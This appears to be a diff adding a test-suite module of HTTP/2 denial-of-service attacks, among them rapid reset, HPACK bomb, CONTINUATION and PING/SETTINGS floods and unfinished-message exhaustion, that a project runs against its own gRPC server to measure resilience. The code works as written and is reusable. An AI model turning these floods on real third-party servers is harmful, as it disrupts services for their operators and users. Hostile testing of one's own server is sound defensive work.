@@ -1,0 +1,305 @@
+"""Attacks on a server's gRPC port by somebody without a key. Each is bounded by a time, and goes on when it is cut off.
+
+`ATTACKS` has them by name; tests run them beside a victim, `scripts/bench_hostile.py` measures what the victim notices.
+"""
+
+from __future__ import annotations
+
+import contextlib
+import itertools
+import struct
+import threading
+import time
+from collections.abc import Callable, Iterator
+from contextlib import contextmanager
+
+from tests.hostile import http2
+from tests.hostile.http2 import (
+    ACK,
+    CANCEL,
+    CONTINUATION,
+    DATA,
+    END_HEADERS,
+    END_STREAM,
+    HEADERS,
+    PING,
+    PRIORITY,
+    RST_STREAM,
+    SETTINGS,
+    WINDOW_UPDATE,
+    Connection,
+    call_headers,
+    frame,
+    literal,
+)
+
+INFO = "/kakeya.v1.RuntimeService/GetServerInfo"
+CHECK = "/grpc.health.v1.Health/Check"
+WRONG_KEY = ((b"authorization", b"Bearer wrong-key-0123456789abcdef"),)
+MESSAGE_BYTES = 4 * 2**20
+BATCH = 64  # of frames in one write
+IDLE_CONNECTIONS = 400
+# So that an attack takes no more of a processor it shares with its victim than an attacker elsewhere would.
+PAUSE_SECONDS = 0.001
+
+Attack = Callable[[str, float], int]
+
+
+@contextmanager
+def listening(connection: Connection) -> Iterator[None]:
+    """Read and throw away what the server says, so that it can go on."""
+
+    def read() -> None:
+        with contextlib.suppress(OSError, ValueError):
+            for _ in connection.frames(1.0):
+                pass
+
+    thread = threading.Thread(target=read, daemon=True)
+    thread.start()
+    try:
+        yield
+    finally:
+        connection.close()
+        thread.join(5.0)
+
+
+def flood(target: str, seconds: float, batches: Callable[[], Iterator[bytes]], *, is_read: bool = True) -> int:
+    """Send batches over one connection, and over another when that is cut off. Returns how many batches went out."""
+    sent, ends = 0, time.monotonic() + seconds
+    while time.monotonic() < ends:
+        try:
+            connection = Connection(target)
+        except OSError:
+            time.sleep(0.05)
+            continue
+        with connection, listening(connection) if is_read else contextlib.nullcontext():
+            for batch in batches():
+                if time.monotonic() >= ends or not connection.try_send(batch):
+                    break
+                sent += 1
+                time.sleep(PAUSE_SECONDS)
+    return sent
+
+
+def streams() -> Iterator[int]:
+    return itertools.count(1, 2)
+
+
+def headers_of(stream: int, block: bytes, flags: int = END_STREAM) -> bytes:
+    """HEADERS and as many CONTINUATIONs as it takes."""
+    parts = [block[at : at + 16_000] for at in range(0, len(block), 16_000)]
+    last = len(parts) - 1
+    return b"".join(
+        frame(
+            HEADERS if at == 0 else CONTINUATION,
+            (END_HEADERS if at == last else 0) | (flags if at == 0 else 0),
+            stream,
+            part,
+        )
+        for at, part in enumerate(parts)
+    )
+
+
+def many_headers(target: str, seconds: float) -> int:
+    """Calls with 2,000 headers of two bytes."""
+    block = call_headers(INFO) + literal(b"ab", b"") * 2_000
+    return flood(target, seconds, lambda: (headers_of(stream, block) for stream in streams()))
+
+
+def indexed_headers(target: str, seconds: float) -> int:
+    """The same from the table of the other side: a byte each, so that an attacker pays 2 kB for 70 kB."""
+    first = call_headers(INFO) + literal(b"ab", b"", indexed=True)
+    block = call_headers(INFO) + b"\xbe" * 2_000
+    return flood(target, seconds, lambda: (headers_of(stream, first if stream == 1 else block) for stream in streams()))
+
+
+def hpack_bomb(target: str, seconds: float) -> int:
+    """One header of 4 kB, named a thousand times by a byte each."""
+    first = call_headers(INFO) + literal(b"bomb", b"x" * 3_000, indexed=True)
+    block = call_headers(INFO) + b"\xbe" * 1_000
+    return flood(target, seconds, lambda: (headers_of(stream, first if stream == 1 else block) for stream in streams()))
+
+
+def continuation(target: str, seconds: float) -> int:
+    """Headers that never end."""
+
+    def batches() -> Iterator[bytes]:
+        yield frame(HEADERS, 0, 1, call_headers(INFO))
+        while True:
+            yield frame(CONTINUATION, 0, 1, literal(b"ab", b"cd")) * BATCH
+
+    return flood(target, seconds, batches)
+
+
+def wrong_keys(target: str, seconds: float) -> int:
+    """Whole calls, each with a wrong key."""
+    block = call_headers(INFO, WRONG_KEY)
+    message = http2.message(b"")
+
+    def batches() -> Iterator[bytes]:
+        for first in itertools.count(1, 2 * BATCH):
+            yield b"".join(
+                frame(HEADERS, END_HEADERS, stream, block) + frame(DATA, END_STREAM, stream, message)
+                for stream in range(first, first + 2 * BATCH, 2)
+            )
+            time.sleep(0.02)
+
+    return flood(target, seconds, batches)
+
+
+def rapid_reset(target: str, seconds: float) -> int:
+    """Calls that are cancelled as soon as they are made."""
+    block = call_headers(INFO, WRONG_KEY)
+    reset = struct.pack(">I", CANCEL)
+
+    def batches() -> Iterator[bytes]:
+        for first in itertools.count(1, 2 * BATCH):
+            yield b"".join(
+                frame(HEADERS, END_HEADERS, stream, block) + frame(RST_STREAM, 0, stream, reset)
+                for stream in range(first, first + 2 * BATCH, 2)
+            )
+            time.sleep(0.01)
+
+    return flood(target, seconds, batches)
+
+
+def pings(target: str, seconds: float) -> int:
+    return flood(target, seconds, lambda: itertools.repeat(frame(PING, 0, 0, bytes(8)) * BATCH))
+
+
+def settings(target: str, seconds: float) -> int:
+    one = frame(SETTINGS, 0, 0, struct.pack(">HI", 4, 65_535))
+    return flood(target, seconds, lambda: itertools.repeat(one * BATCH))
+
+
+def window_updates(target: str, seconds: float) -> int:
+    one = frame(WINDOW_UPDATE, 0, 0, struct.pack(">I", 1))
+    return flood(target, seconds, lambda: itertools.repeat(one * BATCH))
+
+
+def priorities(target: str, seconds: float) -> int:
+    one = frame(PRIORITY, 0, 1, struct.pack(">IB", 0, 15))
+    return flood(target, seconds, lambda: itertools.repeat(one * BATCH))
+
+
+def empty_data(target: str, seconds: float) -> int:
+    """A call of empty frames."""
+
+    def batches() -> Iterator[bytes]:
+        yield frame(HEADERS, END_HEADERS, 1, call_headers(CHECK))
+        while True:
+            yield frame(DATA, 0, 1) * BATCH
+
+    return flood(target, seconds, batches)
+
+
+def unfinished_messages(target: str, seconds: float, method: str = INFO, count: int = 200) -> int:
+    """So many calls on one connection, each all but the last byte of 4 MiB, as far as the server lets it through."""
+    sent, connection = unfinished(target, seconds, method, count)
+    connection.close()
+    return sent
+
+
+def unfinished(
+    target: str, seconds: float, method: str, count: int, headers: http2.Headers = ()
+) -> tuple[int, Connection]:
+    """Bytes that went out, and the connection, still open."""
+    connection = Connection(target)
+    window, sizes = 65_535, 65_535
+    windows: dict[int, int] = {}
+    left: dict[int, int] = {}
+    sent = 0
+    with contextlib.suppress(OSError):
+        for _ in range(count):
+            stream = connection.begin(method, headers)
+            windows[stream], left[stream] = sizes, MESSAGE_BYTES - 1
+            connection.send(frame(DATA, 0, stream, http2.message_start(MESSAGE_BYTES)))
+            windows[stream] -= 5
+            window -= 5
+        ends = time.monotonic() + seconds
+        while left and time.monotonic() < ends:
+            for stream in list(left):
+                size = min(16_384, window, windows[stream], left[stream])
+                if size > 0:
+                    connection.send(frame(DATA, 0, stream, bytes(size)))
+                    window, sent = window - size, sent + size
+                    windows[stream] -= size
+                    left[stream] -= size
+            for each in connection.frames(0.05):
+                if each.kind == WINDOW_UPDATE:
+                    more = struct.unpack(">I", each.payload)[0]
+                    if each.stream:
+                        windows[each.stream] = windows.get(each.stream, 0) + more
+                    else:
+                        window += more
+                elif each.kind == SETTINGS and not each.flags & ACK:
+                    for at in range(0, len(each.payload), 6):
+                        name, value = struct.unpack(">HI", each.payload[at : at + 6])
+                        if name == 4:
+                            windows = {stream: old + value - sizes for stream, old in windows.items()}
+                            sizes = value
+                elif each.kind == RST_STREAM or (each.kind == HEADERS and each.flags & END_STREAM):
+                    left.pop(each.stream, None)
+            if connection.is_closed():
+                break
+    return sent, connection
+
+
+def unfinished_checks(target: str, seconds: float) -> int:
+    """The same with the one method that needs no key."""
+    sent, connection = unfinished(target, seconds, CHECK, 200)
+    connection.close()
+    return sent
+
+
+def half_open(target: str, seconds: float) -> int:
+    """Calls of headers alone, on one connection after another."""
+    block = call_headers(INFO)
+
+    def batches() -> Iterator[bytes]:
+        for first in itertools.count(1, 2 * BATCH):
+            yield b"".join(frame(HEADERS, END_HEADERS, stream, block) for stream in range(first, first + 2 * BATCH, 2))
+            time.sleep(0.02)
+
+    return flood(target, seconds, batches)
+
+
+def idle_connections(target: str, seconds: float) -> int:
+    """Connections that greet and say nothing more; those that are closed are opened again."""
+    held: list[Connection] = []
+    opened, ends = 0, time.monotonic() + seconds
+    try:
+        while time.monotonic() < ends:
+            if len(held) < IDLE_CONNECTIONS:
+                with contextlib.suppress(OSError):
+                    held.append(Connection(target))
+                    opened += 1
+            else:
+                closed = [each for each in held if each.is_closed(0.0001)]
+                for each in closed:
+                    each.close()
+                held = [each for each in held if each not in closed]
+                time.sleep(0.2)
+    finally:
+        for each in held:
+            each.close()
+    return opened
+
+
+ATTACKS: dict[str, Attack] = {
+    "messages that do not end": unfinished_messages,
+    "messages that do not end, to health": unfinished_checks,
+    "calls that are headers alone": half_open,
+    "calls with a wrong key": wrong_keys,
+    "2,000 headers a call": many_headers,
+    "2,000 indexed headers a call": indexed_headers,
+    "HPACK bomb": hpack_bomb,
+    "CONTINUATION without end": continuation,
+    "rapid reset": rapid_reset,
+    "PING flood": pings,
+    "SETTINGS flood": settings,
+    "WINDOW_UPDATE flood": window_updates,
+    "PRIORITY flood": priorities,
+    "empty DATA": empty_data,
+    "idle connections": idle_connections,
+}
